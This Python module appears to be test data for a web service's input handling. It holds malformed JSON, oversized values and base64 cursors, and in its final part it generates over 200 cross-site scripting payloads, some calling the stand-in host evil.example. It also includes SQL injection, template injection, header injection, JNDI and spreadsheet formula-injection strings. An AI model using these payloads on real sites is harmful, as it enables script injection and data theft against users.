"""Input that breaks things: as JSON text, as query text, and as words that are programs somewhere."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any

import orjson

#: Values for one field of a JSON body, among them some that are no JSON at all.
JSON = [
    "null", "true", "false", "0", "-1", "-0.0", "1.5", "1e400", "1e308", "NaN", "Infinity",
    "9" * 5_000, "-" + "9" * 5_000, "0." + "1" * 5_000, "2147483648", "9223372036854775808",
    "18446744073709551615", "18446744073709551616", "-9223372036854775809",
    '""', '" "', '"\\u0000"', '"a\\u0000b"', '"\\ud800"', '"\\udfff\\ud800"', '"\\u202e\\u200f\\ufeff"',
    '"%s"' % ("😀" * 700), '"%s%n{0}${jndi:x}"', '"\'; DROP TABLE x; --"', '"../../etc"',
    "[]", "[[]]", "{}", '{"a": 1}', '{"__proto__": 1}', "[" * 200 + "]" * 200, '{"\\u0000": "\\u0000"}',
    '[{"text": 1}]', '["\\u0000"]', "[1e400]", "[-1]", '["x", "x"]',
    '"2026-13-45T99:99:99Z"', '"0001-01-01T00:00:00+14:00"', '"9999-12-31T23:59:59-14:00"',
    '"10000-01-01T00:00:00Z"', '"00000000-0000-0000-0000-000000000000"', '"not-an-id"', '"+"', '"\xff"',
]  # fmt: skip

#: Whole bodies: large, deep, or broken.
WHOLE = [
    '"%s"' % ("a" * 100_000), "[" * 100_000, "[" * 200 + "]" * 200, '{"a":' * 200 + "1" + "}" * 200,
    '[%s"x"]' % ('"x",' * 10_000), '{"%s": 1}' % ("k" * 8_192), '{"text": "%s"}' % ("a" * 100_000),
    '{"text": "a", "text": "b"}', orjson.dumps({"content": {f"k{n}": 0 for n in range(5_000)}}).decode(),
    '"unclosed', "", "{", "}", ",", "undefined", "'x'", "0x10", "01", "+1", "[1,]", '{"a":1,}', "\xff", "\0",
]  # fmt: skip

#: The same for one value in a query, where everything is text.
TEXTS = [
    "", "\0", "a\0b", "-1", "²", "٣", "9" * 5_000, "9223372036854775808", "NaN", "null", "%", "_", "\\",
    "a" * 20_000, "😀" * 300, "\u202e\u200f\ufeff", "' OR 1=1 --", "{{7*7}}", "\r\nSet-Cookie: a=b",
    "0001-01-01T00:00:00+14:00", "00000000-0000-0000-0000-000000000000", "me", "//evil.example",
]  # fmt: skip

#: And for one field of a form, each of which is answered with a page.
FEW = ["", "a\0b", "²", "9" * 5_000, "a" * 20_000, "\u202e\u200f", "{{7*7}}", "\r\nX: y", "//evil.example"]

#: Query text as it stands in the address: bytes that are no UTF-8 included.
RAW = ["%ED%A0%80", "%FF%FE", "%C0%80", "%00", "%", "%zz", "&&==", "%26%3D"]


def cursors() -> Iterator[str]:
    """Cursors of the right make with the wrong content."""
    odd: list[Any] = [None, 7, 1.5, True, "", [], {}, "9" * 400, "0001-01-01T00:00:00+14:00", "²", "\0"]
    odd += ["9999-12-31T23:59:59.999999-14:00", "2026-01-01", "00000000-0000-0000-0000-000000000000"]
    for name in ("id", "receipt"):
        yield from (_packed([name, value]) for value in odd)
    for name in ("newest", "waiting"):
        yield from (_packed([name, value, value]) for value in odd)
        yield from (_packed([name, "2026-11-23T12:00:00Z", value]) for value in odd)
    nothing: list[Any] = [{}, 7, None, [], "x", [[]]]
    yield from map(_packed, nothing)


def _packed(value: Any) -> str:
    return base64.urlsafe_b64encode(orjson.dumps(value)).rstrip(b"=").decode()


_CALLS = ["alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.example')", "\\u0061lert(1)"]
_SHAPES = [
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/{}></script>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<img src=x onerror={}>", "<img src=x onerror={}//",
    "\"><svg onload={}>", "'><img src=x onerror={}>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</script><script>{}</script>", "<!--<script>{}</script>-->",
    "]]><script>{}</script>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>", "javascript:{}",
    "<a href=data:text/html,<script>{}</script>>x</a>", "<body onload={}>", "<details open ontoggle={}>",
    "<video><source onerror={}>", "<math><mi xlink:href=javascript:{}>", "<base href=javascript:{}//>",
    "<form action=javascript:{}><button>x", "<input autofocus onfocus={}>", "<marquee onstart={}>",
    "<style>@import'javascript:{}'</style>", "<div style=background:url(javascript:{})>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<link rel=stylesheet href=javascript:{}>",
    "<template><script>{}</script></template>", "{{{{constructor('{}')()}}}}", "${{{}}}",
    "\u2028<script>{}</script>", "\ufeff<script>{}</script>", "&lt;script&gt;{}&lt;/script&gt;",
    "<scr\u0131pt>{}</scr\u0131pt>", "\u202e<script>{}</script>", "%3Cscript%3E{}%3C/script%3E",
    "=cmd|'{}'!A0",
]  # fmt: skip


def scripts() -> list[str]:
    """Over 200 texts that run somewhere, were they ever taken for more than text."""
    return [shape.format(call) for shape in _SHAPES for call in _CALLS]
